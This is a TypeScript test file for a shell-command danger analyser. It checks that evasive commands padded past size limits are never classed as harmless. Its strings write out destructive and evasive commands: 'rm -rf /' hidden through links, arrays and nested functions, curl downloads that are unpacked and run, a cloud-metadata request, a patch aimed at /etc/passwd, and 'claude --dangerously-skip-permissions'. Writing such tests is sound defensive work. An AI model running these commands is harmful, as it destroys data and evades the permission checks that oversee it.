import { expect, test } from 'vitest'
import { analyse } from '../analyse.ts'
import { linux, workspace } from '../testing.ts'
import { bounds } from './bounds.ts'

const danger = 'rm -rf /'
const times = (count: number, of: (at: number) => string): string => Array.from({ length: count }, (_, at) => of(at)).join('')

/** For each bound a command that stays below a number of it, or passes it, with what is dangerous at its end. */
const commands: { readonly [name in keyof typeof bounds]: (count: number) => string } = {
  length: count => `: ${'x'.repeat(count - danger.length - 3)}\n${danger}`,
  documents: count => `cat > f <<'E'\n${`${'x'.repeat(99)}\n`.repeat(Math.floor(count / 100) - 1)}E\n${danger}`,
  depth: count => `${times(count, at => `f${at}() { f${at + 1}; }; `)}f${count}() { ${danger}; }; f0`,
  invocations: count => `${'true;'.repeat(count)}${danger}`,
  again: count => `${'true;'.repeat(count)}${danger}`,
  braces: count => `rm -rf {${times(count - 1, at => `a${at},`)}/}`,
  values: count => `for x in ${times(count - 1, at => `a${at} `)} /; do rm -rf "$x"; done`,
  fields: count => `a=(${times(count - 1, () => 'x ')} /); rm -rf "\${a[@]}"`,
  files: count => `${times(count - 1, at => `echo a > f${at};`)} echo '${danger}' > last; sh last`,
  effects: count => `${times(count, at => `rm -rf src/a${at};`)} ${danger}`,
  unpacked: count =>
    `${times(count - 1, at => `curl http://a.example/x | tar xz -C d${at};`)} curl http://a.example/x | tar xz -C d; d/run`,
  hosts: count => `curl ${times(count - 1, at => `http://h${at}.example/ `)} http://169.254.169.254/`,
  path: count => `rm -rf /${'./'.repeat(count / 2)}`,
  links: count => `${times(count - 1, at => `ln -s ../a l${at};`)} ln -s / last; rm -rf last/`,
  hops: count => `${times(count, at => `ln -s l${at + 1} l${at};`)} ln -s / l${count}; rm -rf l0/`,
  looks: count => `rm -r ${times(count - 1, at => `x${at}/../y `)} out/../..`,
  compared: count =>
    `: ${times(Math.floor(count / 300), at => `~/.?z${at} `)}; cat ${times(Math.floor(count / 300), at => `~/.?z${at} `)}; ${danger}`,
  stands: count => `${times(count, at => `touch x${at}1;`)} cat x*1; ${danger}`,
  cut: count => `x='${'a'.repeat(count - 2)}/'; rm -rf "\${x##*a}"`,
  pattern: count => `x='${'a'.repeat(count - 1)}/'; rm -rf "\${x#?${'a'.repeat(count - 2)}}"`,
  embedded: count => `runner ${times(count - 1, () => "'claude -p x' ")} 'claude --dangerously-skip-permissions -p x'`,
  tokens: count => `python3 -c '${times(count / 2, () => 'a;')}import os;os.system("${danger}")'`,
  // Brackets in each other, each looked at again by all around it.
  evaluation: count =>
    `node -e '${times(count / 250, () => `x=${'('.repeat(16)}1${')'.repeat(16)};`)}require("child_process").execSync("${danger}")'`,
  expressions: count => `python3 -c 'import os;os.system(${'('.repeat(count)}"rm -rf"+" /"${')'.repeat(count)})'`,
  texts: count => `python3 -c 'import os,sys;os.system(sys.argv[n])' ${times(count - 2, at => `'echo a${at}' `)} '${danger}'`,
  folders: count =>
    `python3 -c 'import os,shutil;${times(count - 1, at => `os.chdir("a${at}");`)}os.chdir("/");shutil.rmtree("etc")'`,
}

/** A link on the disk, for what asks the file system. */
const host = { ...linux, realpath: (path: string) => (path === `${workspace}/out` ? '/usr/lib' : path) }

const certainty = (command: string): string => analyse(command, { cwd: workspace, workspaceRoots: [workspace], host }).certainty

test.each(Object.keys(commands) as (keyof typeof bounds)[])('%s: proved below, never ordinary above', name => {
  const bound = bounds[name]
  expect(certainty(commands[name](Math.max(1, Math.floor(bound / 4)))), 'below').toBe('proved-dangerous')
  for (const above of [bound + 1, bound + 2, bound * 2, bound * 3])
    expect(certainty(commands[name](above)), `${above}`).not.toBe('proved-ordinary')
})

test('a variable may be set behind any number of others', () => {
  const command = (count: number): string =>
    `python3 -c 'import os;${times(count, at => `os.environ["A_${at}"]="1";`)}os.environ["CODEX_HOME"]="/tmp/x"'`
  for (const count of [1, 199, 1_500]) expect(certainty(command(count))).toBe('proved-dangerous')
})

test('a name may stand for another any number of times', () => {
  const command = (count: number): string => `r0=/; ${times(count, at => `declare -n r${at + 1}=r${at};`)} rm -rf "$r${count}"`
  for (const count of [1, 5, 6, 30]) expect(certainty(command(count))).toBe('proved-dangerous')
  expect(certainty('declare -n a=b; declare -n b=a; rm -rf "$a"')).not.toBe('proved-dangerous')
})

test.each([
  ['a sum', 40, 2_000, (count: number) => `a=(x /); rm -rf "\${a[${'0+'.repeat(count)}1]}"`],
  ['a sum as a subscript', 40, 2_000, (count: number) => `a=([${'0+'.repeat(count)}1]=/); rm -rf "\${a[1]}"`],
  ['brackets', 3, 20, (count: number) => `a=(x /); rm -rf "\${a[${'('.repeat(count)}1${')'.repeat(count)}]}"`],
  ['names', 3, 20, (count: number) => `a=(x /); ${times(count, at => `n${at}=n${at + 1};`)} n${count}=1; rm -rf "\${a[n0]}"`],
  ['a search path', 30, 400, (count: number) => `echo '${danger}' > e/run; PATH=${times(count, at => `/d${at}:`)}$PWD/e; run`],
  ['folders of a patch', 15, 60, (count: number) => `patch -d / -p${count} <<< $'--- a\n+++ ${'a/'.repeat(count)}etc/passwd'`],
] as const)('%s of any length: proved, or never ordinary', (_, below, above, command) => {
  expect(certainty(command(below))).toBe('proved-dangerous')
  expect(certainty(command(above))).not.toBe('proved-ordinary')
})
